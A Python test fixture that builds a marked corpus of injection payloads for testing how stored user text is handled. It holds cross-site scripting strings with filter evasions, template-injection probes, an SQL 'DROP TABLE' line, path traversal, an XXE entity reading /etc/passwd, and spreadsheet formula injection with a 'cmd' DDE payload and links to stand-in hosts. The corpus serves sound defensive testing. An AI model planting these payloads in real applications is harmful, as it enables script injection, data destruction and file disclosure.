"""What is meant to harm, wherever people's words are kept: one corpus for all tests.

``{m}`` is the mark of the column where a text is stored: what comes alive names its origin.
"""

LINES = (
    "<{m}>",
    '"><{m}>',
    "'><{m} a='",
    " on{m}=1 ",
    "</p><{m}/>",
    "<{m}\n>",
    "{{{{{m}}}}}",
    "{{{{7*1337}}}}{m}",
    "{{% raw %}}{m}",
    "%({m})s%s%",
    "${{7*1337}}{m}",
    "{{0.__class__}}{m}",
    "]]><{m}>",
    "--><{m}>",
    "&lt;{m}&gt;&amp;lt;",
    "&#60;{m}&#62;&NewLine;",
    '" autofocus on{m}="alert(1)" x="',
    "` onmouseover=`alert('{m}')",
    "</title></textarea></option></select><{m} onclick=alert(1)>",
    "</script><script>alert('{m}')</script>",
    "</style><style>*{{background:url(//{m})}}</style>",
    "<sCrIpT src=//{m}.example></ScRiPt>",
    "<scr<script>ipt>{m}</scr</script>ipt>",
    "<img src=x onerror=alert('{m}')>",
    "<svg/onload=alert('{m}')><animate href=#x attributeName=href values=javascript:{m} />",
    "<math><mtext><table><mglyph><style><img src=x onerror={m}>",
    "<iframe srcdoc='<{m}>' src=javascript:alert('{m}')></iframe>",
    "<base href=//{m}.example/><meta http-equiv=refresh content=0;url=//{m}>",
    "<form action=//{m}.example><button formaction=javascript:{m}>",
    "<a href='javascript:alert(\"{m}\")'>{m}</a>",
    "<a href=\" \x01jav&#x09;ascript:alert('{m}')\">{m}</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>{m}</a>",
    "javascript:alert('{m}')",
    "JaVaScRiPt&colon;alert('{m}')",
    "java\tscript:alert('{m}')",
    "vbscript:{m}",
    "data:text/html,<{m}>",
    "//{m}.example/\\..",
    "[{m}](javascript:alert('{m}'))",
    "[{m}](<java\nscript:alert(1)>)",
    "![{m}](https://{m}.example/x.png 'a\" onerror=\"{m}')",
    "<javascript:alert('{m}')> <https://{m}.example>",
    "[{m}]: javascript:alert(1)",
    "| {m} |\n|---|\n| <{m}> |",
    "# {m}\n> <{m}>\n```\n<{m}>\n```",
    "\u202e{m}\u2066\u200b\u200d\ufeff\u2028\u2029",
    "{m}\x01\x08\x0b\x1b[31m\x7f\x85\ufffe",
    "{m}\r\nBEGIN:VEVENT\r\nX-{m}:1\r\nSet-Cookie: {m}=1",
    "'; DROP TABLE people; -- {m}",
    "../../{m}/..\\{m}%2f%00",
    "{m}" + "長" * 90 + "𠮷" * 30,
    "<!DOCTYPE x [<!ENTITY {m} SYSTEM 'file:///etc/passwd'>]>&{m};",
    "<w:instrText>{m}</w:instrText>",
)
# How a spreadsheet recognises what it would run; each begins a text of its own.
FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "\u200b=")
# How a link begins that runs, or that leads elsewhere than it seems.
SCHEMES = ("javascript:", "JavaScript:", "\tjava\nscript:", "\x01javascript:", "data:text/html,",
           "vbscript:", "//", "/\\", "\\\\", "ftp://", "file:///", "")  # fmt: skip
STARTS = tuple(one for pair in zip(FORMULAS, SCHEMES, strict=True) for one in pair)
FORMULA = "{start}HYPERLINK(\"https://{m}.example\",1)|cmd!'{m}'"


def line(mark: str, turn: int, limit: int) -> str:
    """As many of the lines as fit into *limit* characters, others at every *turn*."""
    start = STARTS[turn % len(STARTS)]
    found = start if limit > 20 else ""
    for place in range(len(LINES)):
        one = LINES[(turn + place) % len(LINES)].format(m=mark)
        if len(found) + len(one) <= limit:
            found += one
    return found or mark[:limit]


def letter(mark: str, turn: int) -> str:
    """All of it in one text."""
    start = FORMULA.format(start=STARTS[turn % len(STARTS)], m=mark)
    return "\n".join([start, *(one.format(m=mark) for one in LINES)])
